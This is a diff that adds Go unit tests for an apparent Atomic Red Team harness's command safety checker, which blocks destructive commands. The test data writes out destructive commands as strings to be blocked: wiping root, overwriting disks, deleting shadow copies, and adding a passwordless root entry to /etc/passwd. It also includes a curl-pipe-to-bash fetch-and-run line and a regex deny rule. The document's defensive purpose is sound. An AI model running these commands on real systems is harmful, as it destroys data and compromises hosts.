@@ -0,0 +1,110 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+
+	types "github.com/secureworks/atomic-harness/pkg/types"
+	utils "github.com/secureworks/atomic-harness/pkg/utils"
+)
+
+func TestCheckCommandSafety(t *testing.T) {
+	policy := utils.DefaultSafetyPolicy()
+
+	var tests = []struct {
+		command string
+		rule    string
+	}{
+		{"rm -f /tmp/victim-files/a", ""},
+		{"cat /etc/passwd > /tmp/passwd.txt 2>&1", ""},
+		{"cp /etc/passwd /tmp/x", ""},
+		{"echo $HOME/x > /tmp/a; rm -rf ~/.cache/art", ""},
+		{"# rm -rf /\nls", ""},
+		{"sudo rm -rf /", "protected_path:/"},
+		{"rm -rf /*", "protected_path:/"},
+		{"ls\nrm -rf \"$HOME\"", "protected_path:$HOME"},
+		{"rm -rf ${HOME}/", "protected_path:$HOME"},
+		{"rm -rf /home/alice", "protected_path:/home/*"},
+		{"echo 'art::0:0::/:/bin/sh' >> /etc/passwd", "protected_path:/etc/passwd"},
+		{"echo x | sudo tee -a /etc/sudoers", "protected_path:/etc/sudoers"},
+		{"sed -i 's/a/b/' /etc/shadow", "protected_path:/etc/shadow"},
+		{"/bin/mv /boot/vmlinuz /tmp", "protected_path:/boot/**"},
+		{"cp /tmp/evil /boot/grub/grub.cfg", "protected_path:/boot/**"},
+		{"find / -name '*.log' -delete", "protected_path:/"},
+		{"rm -rf --no-preserve-root /tmp/x", "no_preserve_root"},
+		{"dd if=/dev/zero of=/dev/sda bs=1M", "write_block_device"},
+		{"mkfs.ext4 /dev/loop0", "make_filesystem"},
+		{"sudo shutdown -h now", "shutdown_host"},
+		{"systemctl reboot", "shutdown_host"},
+		{"vssadmin.exe delete shadows /all /quiet", "delete_shadow_copies"},
+		{`rd /s /q C:\Windows\System32\drivers`, "protected_path:C:/Windows/System32/**"},
+	}
+	for _, tt := range tests {
+		violation := utils.CheckCommandSafety(policy, "test", tt.command)
+		if tt.rule == "" {
+			assert.Nil(t, violation, tt.command)
+		} else if assert.NotNil(t, violation, tt.command) {
+			assert.Equal(t, tt.rule, violation.Rule, tt.command)
+			assert.Equal(t, "test", violation.Stage)
+		}
+	}
+}
+
+func TestLoadSafetyPolicyCsv(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "policy.csv")
+	os.WriteFile(path, []byte("type,name,value\n# comment\ndeny,curl_pipe_shell,curl .*\\| *(ba)?sh\nprotect,,/opt/app/**\n"), 0644)
+
+	policy := utils.DefaultSafetyPolicy()
+	numRules := len(policy.DenyRules)
+	assert.Nil(t, utils.LoadSafetyPolicyCsv(path, policy))
+	assert.Equal(t, numRules+1, len(policy.DenyRules))
+
+	violation := utils.CheckCommandSafety(policy, "getPrereq0", "curl -s http://x/i.sh | bash")
+	if assert.NotNil(t, violation) {
+		assert.Equal(t, "curl_pipe_shell", violation.Rule)
+	}
+	violation = utils.CheckCommandSafety(policy, "cleanup", "rm /opt/app/conf/app.ini")
+	if assert.NotNil(t, violation) {
+		assert.Equal(t, "protected_path:/opt/app/**", violation.Rule)
+	}
+
+	os.WriteFile(path, []byte("type,name,value\nallow,x,y\n"), 0644)
+	assert.NotNil(t, utils.LoadSafetyPolicyCsv(path, policy))
+}
+
+func TestCheckTestSafety(t *testing.T) {
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "T1070.004"), 0755)
+	os.WriteFile(filepath.Join(dir, "T1070.004", "T1070.004.yaml"), []byte(kTestPlanAtomicYaml), 0644)
+	flagAtomicsPath = dir
+	gAtomicYamls = map[string]*types.Atomic{}
+	defer func() { flagUnsafe = false }()
+
+	rec := &types.AtomicTestCriteria{}
+	rec.Technique = "T1070.004"
+	rec.TestIndex = 1
+	rec.Args = map[string]string{"file_to_delete": "/tmp/other"}
+	utils.LoadAtomicDefaultArgs(rec, dir, false)
+	testRun := &SingleTestRun{criteria: rec, resultsDir: dir}
+
+	assert.Nil(t, CheckTestSafety(testRun))
+
+	rec.Args["file_to_delete"] = "/etc/passwd"
+	violation := CheckTestSafety(testRun)
+	if assert.NotNil(t, violation) {
+		assert.Equal(t, "test", violation.Stage)
+		assert.Equal(t, "rm -f /etc/passwd", violation.Line)
+	}
+
+	MarkAsUnsafe(testRun, violation)
+	assert.Equal(t, types.StatusUnsafe, testRun.status)
+	assert.Equal(t, "protected_path:/etc/passwd", testRun.unsafeRule)
+	assert.FileExists(t, filepath.Join(dir, "safety_violation.json"))
+	assert.Contains(t, SPrintState([]*SingleTestRun{testRun}, false), "Unsafe:1")
+
+	flagUnsafe = true
+	assert.Nil(t, CheckTestSafety(testRun))
+}